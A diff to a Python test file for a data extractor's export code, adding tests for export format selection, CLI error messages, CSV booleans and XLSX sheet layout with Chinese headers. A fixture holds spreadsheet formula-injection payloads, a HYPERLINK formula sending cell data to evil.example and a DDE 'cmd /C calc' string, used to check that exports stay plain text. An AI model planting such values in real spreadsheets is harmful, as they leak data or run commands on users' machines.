@@ -7,12 +7,13 @@ import csv
 import json
 import subprocess
 import sys
+from pathlib import Path
 
 import openpyxl
 import pytest
 from tables import build
 
-from extractor import _export, chunk_to_record, recheck
+from extractor import Issue, _export, chunk_to_record, recheck
 from extractor._export import export
 
 HOSTILE = {"name": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "department": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -40,7 +41,7 @@ def test_xlsx_writes_hostile_text_as_strings_never_formulas(tmp_path):
     out = tmp_path / "x.xlsx"
     export(_records(), out, "xlsx", audit=AUDIT)
     wb = openpyxl.load_workbook(out)
-    assert set(wb.sheetnames) == {"records", "indicators", "issues", "audit"}
+    assert set(wb.sheetnames) == {"records", "indicators", "issues", "audit", "说明"}
     seen = []
     for ws in wb.worksheets:
         for row in ws.iter_rows(min_row=2):
@@ -52,8 +53,8 @@ def test_xlsx_writes_hostile_text_as_strings_never_formulas(tmp_path):
     records = wb["records"]
     header = [c.value for c in records[1]]
     first = [c.value for c in records[2]]
-    assert first[header.index("total.initial_budget")] == 120.5  # numbers stay numbers
-    assert first[header.index("reviewed")] is True
+    assert first[header.index("年度资金总额·年初预算数")] == 120.5  # numbers stay numbers
+    assert first[header.index("已复核")] is True
 
 
 def test_xlsx_keeps_control_characters_visible_instead_of_failing(tmp_path):
@@ -116,7 +117,7 @@ def test_an_export_that_dies_midway_leaves_the_previous_one(tmp_path, fmt):
 
 def test_each_record_row_is_computed_once_and_xlsx_is_never_reloaded(tmp_path, monkeypatch):
     calls = []
-    real = _export.record_row
+    real = _export.record_row  # the XLSX writer is handed _export's, so patching it there counts both
     monkeypatch.setattr(_export, "record_row", lambda *a: calls.append(1) or real(*a))
 
     def no_reload(*a, **k):
@@ -141,3 +142,74 @@ def test_the_password_hasher_does_no_work_at_import():
             "print(len(calls))\n")
     out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert out.stdout.strip() == "0"
+
+
+@pytest.mark.parametrize("name, fmt, expected", [
+    ("all.xlsx", None, "xlsx"), ("all.CSV", None, "csv"), ("all.jsonl", None, "jsonl"), ("a.ndjson", None, "jsonl"),
+    ("all.dat", "csv", "csv"), ("all.xlsx", "xlsx", "xlsx")])
+def test_the_format_follows_the_name(name, fmt, expected):
+    assert _export.format_for(Path(name), fmt) == expected
+
+
+@pytest.mark.parametrize("name, fmt, words", [("all.txt", None, "cannot tell the export format of all.txt"),
+                                              ("all.xlsx", "jsonl", "--format jsonl does not match the name all.xlsx")])
+def test_a_name_that_says_no_format_or_another_is_refused(name, fmt, words):
+    with pytest.raises(_export.ExportError, match=words):
+        _export.format_for(Path(name), fmt)
+
+
+def test_cli_export_refuses_unknown_names_and_missing_folders_with_a_message(tmp_path):
+    from click.testing import CliRunner
+
+    from cli import main
+
+    runner = CliRunner()
+    xlsx = runner.invoke(main, ["export", "-o", str(tmp_path / "all.xlsx")])
+    assert xlsx.exit_code == 0 and zipfile_ok(tmp_path / "all.xlsx")  # an XLSX, not JSONL under an .xlsx name
+    assert not (tmp_path / "all.audit.xlsx").exists()
+    for args, words in ((["-o", str(tmp_path / "no" / "such" / "x.csv")], "the folder"),
+                        (["-o", str(tmp_path / "x.txt")], "cannot tell the export format")):
+        out = runner.invoke(main, ["export", *args])
+        assert out.exit_code == 2 and words in out.output and "Traceback" not in out.output, out.output
+
+
+def zipfile_ok(path) -> bool:
+    import zipfile
+
+    return zipfile.is_zipfile(path)
+
+
+def test_csv_writes_booleans_as_true_false(tmp_path):
+    out = tmp_path / "x.csv"
+    export(_records(2), out, "csv")
+    rows = list(csv.DictReader(open(out, encoding="utf-8-sig", newline="")))
+    assert [r["reviewed"] for r in rows if r["indicator"] == "1"] == ["true", "false"]
+
+
+def test_xlsx_sheets_have_widths_a_frozen_header_a_filter_and_a_dictionary(tmp_path):
+    from extractor._export_columns import COLUMNS
+
+    records = _records(2)
+    records[0][0].issues.append(Issue(code="missing_value", field="year", message="年度 is blank"))
+    out = tmp_path / "x.xlsx"
+    export(records, out, "xlsx", audit=AUDIT)
+    wb = openpyxl.load_workbook(out)
+    for title in ("records", "indicators", "issues", "audit", "说明"):
+        ws = wb[title]
+        assert ws.freeze_panes == "A2", title
+        assert ws.auto_filter.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}{ws.max_row}", title
+        assert ws.column_dimensions["A"].width > 0
+    records_ws = wb["records"]
+    widths = {c.value: records_ws.column_dimensions[c.column_letter].width for c in records_ws[1]}
+    assert widths["项目名称"] > widths["年度"]
+    info = [[c.value for c in row] for row in wb["说明"].iter_rows(min_row=2)]
+    keys = {(sheet, key) for sheet, _, key, _ in info}
+    assert ("records", "project_name") in keys and ("issues", "candidates") in keys and ("audit", "who") in keys
+    # every header of every sheet is explained, by the header shown
+    for title in ("records", "indicators", "issues", "audit"):
+        shown = [c.value for c in wb[title][1]]
+        assert shown == [header for sheet, header, _, _ in info if sheet == title]
+    assert all(meaning for *_, meaning in info) and len(COLUMNS) >= len({k for _, k in keys})
+    issues = [[c.value for c in row] for row in wb["issues"].iter_rows(min_row=2)]
+    header = [c.value for c in wb["issues"][1]]
+    assert "null" not in [row[header.index("候选值")] for row in issues]  # no candidates: a blank cell
